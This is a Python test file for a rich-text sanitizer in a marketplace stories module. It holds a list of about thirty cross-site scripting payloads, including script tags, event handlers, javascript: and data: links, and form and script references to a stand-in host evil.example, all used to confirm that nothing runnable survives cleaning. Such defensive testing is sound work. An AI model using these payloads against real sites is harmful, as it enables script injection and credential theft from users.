"""What people write is cleaned when it is stored and when it is shown."""

import re

import pytest

from market.stories.richtext import cleaned, shown, summary, to_html

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa\nScRiPt:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '<p onclick="alert(1)">x</p>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=passcode></form>',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<<script>script>alert(1)<</script>/script>",
    "</div></main><h1>x</h1>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "![x](https://evil.example/pixel.gif)",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "\u2028<script\u2028>alert(1)</script>",
)
TAGS = {"p", "br", "h3", "h4", "strong", "b", "em", "ul", "ol", "li", "blockquote", "a"}


@pytest.mark.parametrize("typed", ATTACKS)
@pytest.mark.parametrize("way", [to_html, cleaned, lambda html: str(shown(html))])
def test_nothing_that_runs_is_left(typed, way):
    html = way(typed)

    for name, attributes in re.findall(r"<\s*/?\s*([a-zA-Z0-9]+)([^>]*)", html):
        assert name in TAGS, html
        names = re.findall(r"([a-zA-Z-]+)\s*=", re.sub(r'"[^"]*"', '""', attributes))
        assert set(names) <= {"href", "rel"}, html
    addresses = re.findall(r'href="([^"]*)"', html)
    assert all(address.startswith(("https:", "http:", "mailto:", "tel:")) for address in addresses)


def test_signs_become_headings_lists_bold_and_links():
    html = to_html("# เรื่อง\n\nนา **ของเรา**\nและบ้าน\n\n- ก\n- ข\n\n[อ่านต่อ](https://x.th/a)")

    assert html == (
        "<h3>เรื่อง</h3>\n<p>นา <strong>ของเรา</strong><br>\nและบ้าน</p>\n<ul>\n<li>ก</li>\n<li>ข</li>"
        '\n</ul>\n<p><a href="https://x.th/a" rel="nofollow noopener ugc">อ่านต่อ</a></p>'
    )


def test_cleaning_twice_is_cleaning_once():
    html = to_html("ก & ข < ค **ง** <b>จ</b>")

    assert cleaned(html) == html


def test_a_summary_has_words_only_and_an_end():
    assert summary("<p>ข้าว &lt;b&gt; &amp; ปลา</p>") == "ข้าว <b> & ปลา"
    assert summary(f"<p>{'ข้าว ' * 100}</p>", 50).endswith("…")
    assert len(summary("<p>" + "ก" * 500 + "</p>", 50)) == 51
